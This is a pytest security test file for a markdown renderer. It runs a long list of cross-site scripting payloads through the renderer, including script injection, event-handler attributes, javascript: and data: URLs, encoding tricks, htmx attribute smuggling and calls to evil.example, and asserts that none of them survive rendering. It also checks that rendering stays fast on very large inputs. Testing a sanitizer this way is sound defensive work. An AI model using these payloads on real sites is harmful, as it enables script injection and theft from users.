"""Whatever somebody types, nothing of it acts in a reader's browser, and nothing takes long."""

import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.kernel.text.hard_cases import cases, naughty
from workspace.kernel.text.markdown import Target, mentions, references, render, render_safely, resolve, titled
from workspace.kernel.text.words import normal

ALLOWED = {
    "a": {"href", "title", "rel", "class"},
    "img": {"src", "alt", "title", "loading"},
    "input": {"type", "disabled", "checked", "aria-label"},
    "li": {"id", "class"},
    "ol": {"start", "class"},
    "ul": {"class"},
    "div": {"class"},
    "pre": {"class"},
    "span": {"data-ref", "data-page", "data-anchor", "data-mention"},
    **{f"h{level}": {"id"} for level in range(2, 7)},
    "sup": {"id"},
    "td": {"align"},
    "th": {"align"},
}
BARE = {"p", "br", "hr", "blockquote", "code", "em", "strong", "del", "sub"}
TABLE = {"table", "thead", "tbody", "tr"}
CLASSES = {"footnote", "footnote-ref", "footnote-backref", "task-list", "task-list-item", "unrendered", None}


class Inspector(HTMLParser):
    """Raises for the first tag, attribute or address that we never meant to give out."""

    def handle_starttag(self, tag, attributes):
        assert tag in BARE | TABLE or tag in ALLOWED, f"<{tag}>"
        given = dict(attributes)
        assert set(given) <= ALLOWED.get(tag, set()), f"<{tag} {given}>"
        assert given.get("class") in CLASSES
        assert given.get("id", "fn").startswith(("fn", "h-"))
        assert urlsplit((given.get("href") or "").strip()).scheme in {"", "http", "https", "mailto", "tel"}
        if tag == "img":
            assert given.get("src", "/s/").startswith("/s/")
        if "href" in given:
            assert given["rel"] == "nofollow noopener noreferrer"

    def handle_comment(self, data):
        raise AssertionError(f"<!--{data}-->")

    def handle_decl(self, declaration):
        raise AssertionError(f"<!{declaration}>")

    def handle_pi(self, data):
        raise AssertionError(f"<?{data}>")


def inspect(html):
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()


PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='#' onclick=alert(1)>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<style>@import 'http://evil.example'</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<div hx-get='/logout' hx-trigger='load'></div>",
    "<div data-hx-get='/logout' hx-on:load='alert(1)'></div>",
    '<span data-ref="CR-1">CR-1</span>',
    '<span data-mention="1">@Ada</span>',
    "<div\n>\n\n<script>alert(1)\n\n</script>",
    "<!-- <img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<br onclick=alert(1)>",
    "<br/><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](http://a.example "t\\" onmouseover=alert(1) x=\\"")',
    "[x](http://a.example 'a\" onclick=\"alert(1)')",
    '[x](http://a.example"onclick=alert(1)//)',
    "[<img src=x onerror=alert(1)>](http://a.example)",
    "![x](http://evil.example/seen.png)",
    "![x](//evil.example/seen.png)",
    "![x](/s/H/attachments/../../../logout)",
    "![x](/s/H/attachments/1/%2e%2e)",
    "![x](/s/H/attachments/1?x)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x" onerror="alert(1)](/s/H/attachments/1)',
    '![x](/s/H/attachments/1 "t" onerror="alert(1)")',
    "![`<b>`](x)![*a*](y)",
    "<javascript:alert(1)>",
    '<http://a.example/"onclick=alert(1)>',
    'http://a.example/"onclick="alert(1)',
    "http://a.example/<script>alert(1)</script>",
    '<a@b.example"onclick=alert(1)>',
    'a"onclick=alert(1)@b.example',
    '```"onclick=alert(1)\ncode\n```',
    "``` {.x onclick=alert(1) #top style=color:red}\ncode\n```",
    "```{#fn:1 .footnote}\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    </code></pre><script>alert(1)</script>",
    "~~~html\n<script>alert(1)</script>\n~~~",
    "# x {onclick=alert(1)}\n\n{: hx-get=/ }",
    "*x*{: onclick=alert(1)}",
    '[^"><script>alert(1)</script>]: x\n\nx[^"><script>alert(1)</script>]',
    "[^__proto__]: a\n[^constructor]: b\n\n[^__proto__][^constructor]",
    "|a|\n|-|\n|<script>alert(1)</script>|",
    '|a|\n|:-:" onclick=alert(1)|\n|x|',
    "- [ ] <input onfocus=alert(1)>\n- [x](javascript:alert(1))",
    "> <script>\n> alert(1)\n> </script>",
    "1. <iframe\n   src=//evil.example>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03lt;script\x02amp\x03gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "&\x00#60;script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "half \ud83d<script>",
    "///Footnotes Go Here///\n\n[^1]: <script>x</script>\n\n[^1]",
    '@<script>alert(1)</script> @Ada"><script>alert(1)</script>',
    'CR-1"><script>alert(1)</script>',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a]: x 'onclick=\"alert(1)\"><script>alert(1)</script>'\n\n[a]",
    "<hx-partial hx-target='body'><script>alert(1)</script></hx-partial>",
    "<template hx type=partial hx-target='#main'>smuggled</template>",
    "<div hx-sse:connect='/smuggled' hx-ws:connect='/smuggled'></div>",
    "<div sse-connect='/smuggled' hx-ext='sse'></div>",
    "<p hx-get=/smuggled hx-trigger='load, revealed, every 1s'>x</p>",
    "<p data-behaviour='dialog' data-hx-post=/smuggled>x</p>",
    '[x](/smuggled \'a" hx-get="/smuggled" hx-trigger="load\')',
    "[x](<javascript:alert(1)>)",
    "[x](javascript\\:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java&NewLine;script&colon;alert&lpar;1&rpar;)",
    "[x](\u2028javascript:alert(1))",
    "[x](\xa0javascript:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](/\\evil.example)",
    "[x](view-source:javascript:alert(1))",
    "[x](https:javascript:alert(1))",
    "<vbscript:alert(1)> <data:text/html,x> <JAVASCRIPT://%0aalert(1)>",
    "[x]: <javascript:alert(1)>\n\n[x] [y][x] ![x]",
    "![x](/s/H/KB-1/attachments/1/a.svg#<script>)",
    '![x](/s/H/attachments/1/x.png" onload="alert(1))',
    "![x](\\\\evil.example\\a.png)",
    "# main\n# content\n# search\n# main-1\n[x](#main)",
    '# "><img src=x onerror=alert(1)>\n[x](#"><script>)',
    "# <a id=main name=cookie>x</a>\n# `<script>alert(1)</script>`",
    '[["><script>alert(1)</script>]]',
    '[[\'onmouseover=\'alert(1)]] [[x" data-ref="CR-1" onclick="alert(1)]]',
    '[[a#"><img src=x onerror=alert(1)>|<img src=x onerror=alert(1)>]]',
    "[[<hx-partial>|</span><script>alert(1)</script>]]",
    "[[javascript:alert(1)|x]] [[a|[x](javascript:alert(1))]]",
    "[[&lt;script&gt;alert(1)&lt;/script&gt;|&lt;script&gt;]]",
    "[[a\\|<svg onload=alert(1)>]] [[\x02klzzwxh:0000\x03]]",
    '[<script>alert(1)</script>](CR-1) [x](CR-1#" onclick="alert(1))',
    "[![x](javascript:alert(1))](CR-1#<script>) [<b onclick=x>](CR-1)",
    '<span data-page="a" data-anchor="b">a</span> &lt;span data-page="a"&gt;a&lt;/span&gt;',
    '```"><script>alert(1)</script>\nx\n```\n> ```<img onerror=alert(1)>\n> x\n> ```',
    "|a|b|\n|:-:|-:|\n|<td onclick=alert(1)>|`\\|<b>`|\n|[[a\\|<b>]]|x|",
    "<form id=main action=javascript:alert(1)><input name=attributes><button formaction=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<style>*{background:url(//evil.example)}</style> <p style=x:expression(alert(1))>",
    "<dialog open><h1>Sign in again</h1></dialog> <details open ontoggle=alert(1)>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<a href=\"&#1;javascript:alert(1)\">x</a> <a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<img srcset='//evil.example/a 1x'> <video poster=//evil.example/a> <body background=//evil.example/a>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    "$$x$$ {{ 7*7 }} {% include 'x' %} ${7*7} <%= 7*7 %>",
]
PEOPLE = {1: "Ada", 2: "<script>alert(1)</script>"}


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "- a\n  - {}", "|a|\n|-|\n|{}|", "**{}** _x_", "[{}](/s)", "# {}\n\n> {}", "[[{}]]"]
)
def test_nothing_hostile_is_left_of_what_was_typed(frame, payload):
    rendered = render(frame.replace("{}", payload), people=PEOPLE, headings=True)
    inspect(rendered)
    # The same goes for the page it becomes, whatever the records are called.
    evil = Target('/s/H/CR-1"><script>', '"><script>alert(1)</script>')
    page = resolve(rendered, {"CR-1": evil}, {normal(title): evil for title in titled(rendered)})
    assert "<script" not in page.lower()


def test_the_inspector_of_these_tests_would_notice():
    for leak in ["<script>", "<p onclick=x>", "<a href=javascript:x>", "<img src=//x>", "<p hx-get=x>", "<!-- -->"]:
        with pytest.raises(AssertionError):
            inspect(leak)


@given(st.text(st.sampled_from("<>&\"'`*_~[]()!#|:-+ \n\\/@=^.a1{}\x02\x03\x00中"), max_size=80))
def test_no_arrangement_of_special_characters_gets_through(text):
    inspect(render(text, people={1: "a", 2: "中"}))


def test_naughty_strings_and_hard_cases_are_harmless():
    texts = [*naughty(), *(case["markdown"] for _, case in cases())]
    if not texts:
        pytest.skip("The cases are not here: CORPORA names no folder with markdown-hardcases.")
    assert len(texts) > 1000
    for text in texts:
        inspect(render(text, people={1: text[:20]}, headings=True))
    everything = "\n\n".join(texts)
    start = time.monotonic()
    inspect(render_safely(everything))
    assert time.monotonic() - start < 5


SLOW = {
    "open brackets": "[",
    "open links": "[a](",
    "open pictures": "![",
    "open notes": "[^",
    "nested brackets": "[a](<",
    "notes used again and again": "[^1]: x\n\n" + "[^1]",
    "bullets alone": "-\n",
    "bullets in a line": "* * ",
    "headings": "# a\n",
    "rules": "---\n",
    "underlined": "a\n=\n",
    "fences": "~~~a\n",
    "stars": "*a **b ",
    "ticks": "` `` ``` ",
    "quotes": "> ",
    "backslashes": "\\[",
    "CDATA": "<![CDATA[",
    "addresses": "http://a.b/",
    "mails": "a@b.c ",
    "mentions": "@Ada @",
    "references": "CR-1/",
    "blank lines": " \n",
    "Chinese": "我们决定在周五前完成方案。",
    "control characters": "\x02\x03\x00",
    "open pages": "[[",
    "pages": "[[a#b|c]] ",
    "pages that nobody closes": "[[a|",
    "links to records": "[a](KB-3#b) ",
    "fences in lists": "- ```\n",
    "fences in quotes": "> ```x\n",
    "items in a line": "- 1. ",
    "a table": "|a|b|\n|-|-|\n",
    "a wide table": "|-",
    "notes": "[^1]: a\n",
    "definitions": "[a]: b\n",
    "nested emphasis": "*a _b ",
    "strikes": "~a~~ ",
    "underlines": "--\n",
    "entities": "&#1;&",
    "tags": "<a href='",
}


@pytest.mark.parametrize("piece", SLOW.values(), ids=SLOW)
@pytest.mark.parametrize("length", [20_000, 1_000_000])
def test_no_text_up_to_a_megabyte_takes_long_or_raises(piece, length):
    text = (piece * (length // len(piece) + 1))[:length]
    start = time.monotonic()
    rendered = render_safely(text, people={1: "Ada"})
    assert time.monotonic() - start < 2 + 4  # with room for a machine that is busy with other tests
    inspect(rendered[:200_000].rpartition("<")[0])
    start = time.process_time()
    references(text)
    mentions(text, {1: "Ada"})
    resolve(rendered, {})
    assert time.process_time() - start < 6
